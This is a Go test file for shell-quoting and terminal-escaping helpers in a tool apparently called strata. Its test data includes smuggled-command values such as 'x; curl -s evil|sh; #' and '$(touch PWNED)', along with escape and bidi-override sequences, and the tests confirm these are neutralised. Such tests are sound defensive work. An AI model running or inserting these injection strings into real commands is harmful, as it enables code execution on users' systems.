package state

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"reflect"
	"strings"
	"testing"
)

// A command strata prints for the user to copy reads back as one word in a
// shell, whatever a remote named the path.
func TestShellWord(t *testing.T) {
	for in, want := range map[string]string{
		".claude/workflow-state.json": ".claude/workflow-state.json",
		"a b":                         "'a b'",
		"x; curl -s evil|sh; #":       "'x; curl -s evil|sh; #'",
		"it's":                        `'it'\''s'`,
		"":                            "''",
		"~root/x.json":                "'~root/x.json'",
		"a~b":                         "a~b",
		"\x1b[2J":                     `$'\033[2J'`,
		"a\nb: c":                     `$'a\nb: c'`,
		"it's\t\\\r":                  `$'it\'s\t\\\r'`,
		"café\u202e\u009b\xff":        `$'café\342\200\256\302\233\377'`,
	} {
		if got := ShellWord(in); got != want {
			t.Errorf("ShellWord(%q) = %s, want %s", in, got, want)
		}
	}
}

// What ShellWord prints is one printable line that bash reads back as the
// very bytes it quotes, whatever they are: pasted, a suggested command
// passes the value it names (a quoted Go string, "'a\nb'", would pass its
// quotes and backslashes instead).
func TestShellWordRoundTrip(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	for _, in := range []string{
		"plain", "a b", "it's", "$(touch PWNED)", "-rf", "~root", "",
		"a\nb: c", "\x1b[2J\x1b]0;T\a", "it's\t\\\r\n", "café\u202e\u009b\xff\xfe", "\x01\x7f7", "'\\'",
	} {
		w := ShellWord(in)
		if !printable(w) {
			t.Errorf("ShellWord(%q) = %q: not one printable line", in, w)
		}
		out, err := exec.Command(bash, "-c", "printf %s "+w).Output()
		if err != nil || string(out) != in {
			t.Errorf("bash read ShellWord(%q) = %s back as %q (%v)", in, w, out, err)
		}
	}
}

// Text from a file or a remote reaches the terminal as it is when it is
// printable, letters of any script included, and quoted when it holds
// anything a terminal acts on or that breaks the line: C0 and C1 controls,
// invalid UTF-8 (a raw 0x9B is the 8-bit CSI), format characters.
func TestTermSafe(t *testing.T) {
	for in, want := range map[string]string{
		"phase impl":        "phase impl",
		"café → 東京 ✓":       "café → 東京 ✓",
		"impl\x1b[31mRED":   `"impl\x1b[31mRED"`,
		"a\nb":              `"a\nb"`,
		"c1\u009b31mX.json": `"c1\u009b31mX.json"`,
		"raw\x9b32mY.json":  `"raw\x9b32mY.json"`,
		"ff\xffname.json":   `"ff\xffname.json"`,
		"rtl\u202egnp.json": `"rtl\u202egnp.json"`,
		"del\x7f":           `"del\x7f"`,
	} {
		if got := TermSafe(in); got != want {
			t.Errorf("TermSafe(%q) = %s, want %s", in, got, want)
		}
	}
}

// A unified diff keeps its shape: a line a terminal would act on is quoted
// after its mark, a CRLF line's final carriage return is left alone, a
// header's unprintable name is quoted after its "--- ".
func TestTermDiff(t *testing.T) {
	in := "--- a/x.md (1234567890)\n+++ b/x\x9b2J.md (work tree)\n@@ -1,3 +1,3 @@\n # M\r\n-- a\x1b]0;T\a\n+- a\r b\n+- \u202eRLO\n\\ No newline at end of file\n"
	want := "--- a/x.md (1234567890)\n" + `+++ "b/x\x9b2J.md (work tree)"` + "\n@@ -1,3 +1,3 @@\n # M\r\n" + `-"- a\x1b]0;T\a"` + "\n" + `+"- a\r b"` + "\n" + `+"- \u202eRLO"` + "\n\\ No newline at end of file\n"
	if got := TermDiff(in); got != want {
		t.Errorf("TermDiff:\n%q\nwant\n%q", got, want)
	}
	if plain := "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b"; TermDiff(plain) != plain {
		t.Errorf("TermDiff changed a printable diff: %q", TermDiff(plain))
	}
}

// A report's lines are quoted after their indent, each on its own.
func TestTermText(t *testing.T) {
	in := "workflow: APEX\n  context: a\x1b[2J\nnext:\n  \u202eRLO"
	want := "workflow: APEX\n" + `  "context: a\x1b[2J"` + "\nnext:\n" + `  "\u202eRLO"`
	if got := TermText(in); got != want {
		t.Errorf("TermText:\n%q\nwant\n%q", got, want)
	}
	if plain := "a\n  b\n"; TermText(plain) != plain {
		t.Errorf("TermText changed printable text: %q", TermText(plain))
	}
}

// EscapeText writes each character TermSafe would quote as the escape
// TermSafe shows, as plain text, and leaves letters of any script, emoji
// and backslashes as they are (attack23-verify 5).
func TestEscapeText(t *testing.T) {
	for in, want := range map[string]string{
		"café → 東京 ✓ 🎉 a\\b":               "café → 東京 ✓ 🎉 a\\b",
		"ctx\x1b]0;owned\a\x1b[2J":         `ctx\x1b]0;owned\a\x1b[2J`,
		"c1\u009b31m del\x7f nul\x00":      `c1\u009b31m del\x7f nul\x00`,
		"\u202egnp \u2066iso\u2069 \ufeff": `\u202egnp \u2066iso\u2069 \ufeff`,
		"zw\u200b\u200f raw\x9b \ufffd":    `zw\u200b\u200f raw\x9b \ufffd`,
		"tag\U000e0041":                    `tag\U000e0041`,
	} {
		got := EscapeText(in)
		if got != want {
			t.Errorf("EscapeText(%q) = %s, want %s", in, got, want)
		}
		if !printable(got) {
			t.Errorf("EscapeText(%q) = %q: not printable", in, got)
		}
	}
}

// JSONSafe escapes what encoding/json leaves raw and a terminal acts on
// (DEL, C1, format characters), and the result still decodes to the very
// strings that were encoded (attack23-verify 6).
func TestJSONSafe(t *testing.T) {
	in := map[string]any{
		"k\u202e": []any{"c1\u009b31m", "del\x7f", "\u2066iso\u2069 \u200b\ufeff", "esc\x1b[2J", "tag\U000e0041", "café 東京 🎉 <&>", "\ufffd"},
	}
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetIndent("", "  ")
	enc.SetEscapeHTML(false)
	if err := enc.Encode(in); err != nil {
		t.Fatal(err)
	}
	out := JSONSafe(b.Bytes())
	if !printable(strings.ReplaceAll(string(out), "\n", "")) {
		t.Errorf("JSONSafe left a character a terminal acts on: %q", out)
	}
	for _, want := range []string{`"k\u202e"`, `"c1\u009b31m"`, `"del\u007f"`, `"\u2066iso\u2069 \u200b\ufeff"`, `"tag\udb40\udc41"`, `"café 東京 🎉 <&>"`, `"\ufffd"`} {
		if !strings.Contains(string(out), want) {
			t.Errorf("JSONSafe output lacks %s:\n%s", want, out)
		}
	}
	var back map[string]any
	if err := json.Unmarshal(out, &back); err != nil {
		t.Fatalf("JSONSafe output is not JSON: %v\n%s", err, out)
	}
	if !reflect.DeepEqual(back, in) {
		t.Errorf("JSONSafe output decodes to %q, want %q", back, in)
	}
	if plain := []byte("{\"a\": \"café\"}\n"); &JSONSafe(plain)[0] != &plain[0] {
		t.Error("JSONSafe copied a document with nothing to escape")
	}
}

// A path ShellPath prints reads back in bash as the path, "~/" expanded
// to the home directory, and runs nothing, whatever the rest holds
// (note23 "Left alone": sync's restore hint for the home file).
func TestShellPathRoundTrip(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	home, cwd := t.TempDir(), t.TempDir()
	for in, want := range map[string]string{
		"~/.claude/projects/-tmp-r/memory/MEMORY.md": home + "/.claude/projects/-tmp-r/memory/MEMORY.md",
		"~/dir/$(touch PWNED) x.md":                  home + "/dir/$(touch PWNED) x.md",
		"~/it's `touch PWNED`":                       home + "/it's `touch PWNED`",
		".claude/$(touch PWNED) y.json":              ".claude/$(touch PWNED) y.json",
		"~root/x.json":                               "~root/x.json",
		"~/":                                         "~/",
	} {
		w := ShellPath(in)
		if !printable(w) {
			t.Errorf("ShellPath(%q) = %q: not one printable line", in, w)
		}
		cmd := exec.Command(bash, "--norc", "-c", "printf %s "+w)
		cmd.Dir, cmd.Env = cwd, []string{"HOME=" + home, "PATH=/usr/bin:/bin"}
		out, err := cmd.Output()
		if err != nil || string(out) != want {
			t.Errorf("bash read ShellPath(%q) = %s back as %q (%v), want %q", in, w, out, err, want)
		}
	}
	if ents, _ := os.ReadDir(cwd); len(ents) != 0 {
		t.Errorf("pasting the paths ran something: %v", ents)
	}
}

// ShownPath quotes a path as TermSafe does, and also where white space at
// either end of an element, or a leading double quote, would hide where a
// name begins or ends (attack25 recheck: ".claude/ lead.json").
func TestShownPath(t *testing.T) {
	for in, want := range map[string]string{
		".claude/notes.json":   ".claude/notes.json",
		".claude/café.json":    ".claude/café.json",
		".claude/lead .json":   ".claude/lead .json",
		`.claude/x\u0041.json`: `.claude/x\u0041.json`,
		".claude/ lead.json":   `".claude/ lead.json"`,
		".claude/lead.json ":   `".claude/lead.json "`,
		".claude\t/x.json":     `".claude\t/x.json"`,
		".claude /x.json":      `".claude /x.json"`,
		`"q.json`:              `"\"q.json"`,
		".claude/x\u200b.json": `".claude/x\u200b.json"`,
		".claude/\xff.json":    `".claude/\xff.json"`,
	} {
		if got := ShownPath(in); got != want {
			t.Errorf("ShownPath(%q) = %s, want %s", in, got, want)
		}
	}
}

func TestCut(t *testing.T) {
	for _, tc := range []struct {
		in, want string
		cut      bool
	}{
		{"short", "short", false},
		{strings.Repeat("a", 5), "aaaaa", false},
		{strings.Repeat("a", 6), "aaaaa…", true},
		{"ééééééé", "ééééé…", true}, // characters, not bytes
		{"ab\x1bcd", "ab…", true},   // \x1b counts as its four characters, never split
		{"a\x1b", "a\x1b", false},   // five once escaped: fits, and comes back as it is
	} {
		got, cut := Cut(tc.in, 5)
		if got != tc.want || cut != tc.cut {
			t.Errorf("Cut(%q) = %q, %v; want %q, %v", tc.in, got, cut, tc.want, tc.cut)
		}
	}
}
